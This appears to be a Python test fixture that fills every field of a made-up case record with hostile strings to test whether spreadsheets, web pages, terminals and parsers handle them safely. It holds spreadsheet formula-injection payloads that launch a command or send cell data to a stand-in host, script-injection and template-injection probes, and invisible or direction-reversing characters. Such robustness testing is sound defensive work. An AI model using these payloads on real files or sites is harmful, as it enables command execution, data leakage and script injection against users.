"""A made case whose cells hold what breaks a spreadsheet, a page, a terminal or a parser."""

from __future__ import annotations

from tests.made_case import MadeCase

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "blank": "  =1+1",
    "no-break": "\N{NO-BREAK SPACE}=1+1",
    "unseen": "\u200b\u202e\ufeff=1+1",
    "full-width": "＝1+1",
    "small": "﹣1+cmd",
    "apostrophe": "'=1+1",
    "next-cell": '","=1+1',
    "next-line": '"\r\n=1+1',
    "html": '<script>window.pwned=1</script><img src=x onerror="window.pwned=1">',
    "comment": "]]> --> </script></style>",
    "template": "{{7*7}} {% raw %} ${7*7} `id` %{customdata}",
    "backwards": "left \u202ethgir ot\u202c \u2067unclosed",
    "controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160)])) + "x",
    "null": "a\0b",
    "lines": "one\u2028two\u2029three\x85four\rfive\nsix\r\nseven",
    "planes": "🛶𝔣𝔯𝔞𝔨𝔱𝔲𝔯 e\u0301 ﷽ \U0010ffff \ufffe",
    "escapes": "\\u003c \\ \\\\ \\n \" ' `",
    "long": "A long word. " * 770,
}


def hostile_record() -> MadeCase:
    """For each text a document, a source, a place, a claim, a quote and a figure that are it."""
    made = MadeCase(title=" ".join(words for name, words in HOSTILE.items() if name != "long"))
    for name, words in HOSTILE.items():
        made.document(name, title=words, publisher=words, wire=words, url=words, text=words)
        made.source(name, words, name=words, reliability_basis=words)
        made.place(f"in-{name}", name=words)
        made.claim(name, title=words, statement=words, note=words)
        made.plays(name, "at", f"in-{name}")
        said = made.says(name, "asserts", name, document_id=name, words=words, hedge=words)
        made.says(name, "on record", name, document_id=name, words=words, cites=words)
        made.figure(said, words, unit=words)
        made.judges("note", claim_id=name, who=words, why=words)
        made.judges("reliability", source_id=name, value="C", who=words, why=words)
    return made
